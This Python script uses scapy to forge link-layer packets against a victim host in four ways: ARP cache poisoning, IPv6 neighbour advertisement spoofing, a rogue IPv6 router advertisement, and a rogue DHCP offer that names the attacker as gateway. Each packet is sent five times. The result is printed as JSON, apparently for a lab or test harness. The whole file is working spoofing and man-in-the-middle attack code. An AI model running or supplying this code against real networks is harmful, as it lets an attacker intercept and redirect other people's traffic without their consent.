"""Claim an address on the link: neighbour.py KIND VICTIM CLAIMED, several times.

KIND: arp (an unsolicited answer), nd (the same for IPv6), ra (a router), dhcp (a server that
answers). Only the victim shows whether it succeeded.
"""

import json
import sys
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import (
    ICMPv6ND_NA,
    ICMPv6ND_RA,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    getmacbyip6,
)
from scapy.layers.l2 import ARP, Ether, getmacbyip
from scapy.sendrecv import sendp

LINK = "eth0"

began = time.time()
kind, victim, claimed, own = sys.argv[1:]
if kind == "arp":
    lie = Ether(dst=getmacbyip(victim)) / ARP(
        op=2, psrc=claimed, hwsrc=own, pdst=victim, hwdst=getmacbyip(victim)
    )
elif kind == "nd":
    lie = (
        Ether(dst=getmacbyip6(victim))
        / IPv6(src=claimed, dst=victim, hlim=255)
        / ICMPv6ND_NA(tgt=claimed, R=0, S=0, O=1)
        / ICMPv6NDOptDstLLAddr(lladdr=own)
    )
elif kind == "ra":
    lie = (
        Ether(dst="33:33:00:00:00:01")
        / IPv6(src="fe80::666", dst="ff02::1", hlim=255)
        / ICMPv6ND_RA(routerlifetime=1800, prf=1)
        / ICMPv6NDOptSrcLLAddr(lladdr=own)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:666::", prefixlen=64)
    )
else:
    lie = (
        Ether(dst="ff:ff:ff:ff:ff:ff")
        / IP(src=claimed, dst="255.255.255.255")
        / UDP(sport=67, dport=68)
        / BOOTP(op=2, yiaddr=victim, siaddr=claimed, xid=7)
        / DHCP(options=[("message-type", "offer"), ("router", claimed), "end"])
    )
sendp([lie] * 5, iface=LINK, inter=0.2, verbose=0)
print(json.dumps({"began": began, "succeeded": None, "saw": ""}))
